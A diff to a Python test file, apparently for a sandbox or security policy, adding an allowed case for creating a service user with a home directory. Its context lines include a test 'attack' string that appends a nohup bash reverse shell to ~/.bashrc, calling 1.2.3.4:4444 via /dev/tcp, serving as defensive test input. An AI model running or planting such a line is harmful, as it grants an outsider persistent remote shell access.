@@ -239,6 +239,8 @@ def test_shell_profiles_new_cron_dirs_and_accounts_vs_service_users(task_env: Ta
     ok(task_env, "worker", "cat /etc/profile /etc/bash.bashrc >/dev/null 2>&1; bash -lc 'true'; bash -ic 'true'")
     ok(task_env, "worker", "useradd -r -M -s /usr/sbin/nologin svc && groupadd --system svcgrp")
     ok(task_env, "worker", "useradd --system --no-create-home appuser && grep -q '^appuser:' /etc/passwd")
+    # a service user with a home: useradd -m copies /etc/skel's .bashrc/.profile into it
+    ok(task_env, "worker", "useradd -r -m -s /usr/sbin/nologin svchome && test -f /home/svchome/.profile")
     ok(task_env, "worker", "mkdir -p /var/spool/mail/x && echo hi > /var/spool/mail/x/m")
     # the attacks, in "app"
     bashrc = "echo 'nohup bash -c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\" &' >> ~/.bashrc"
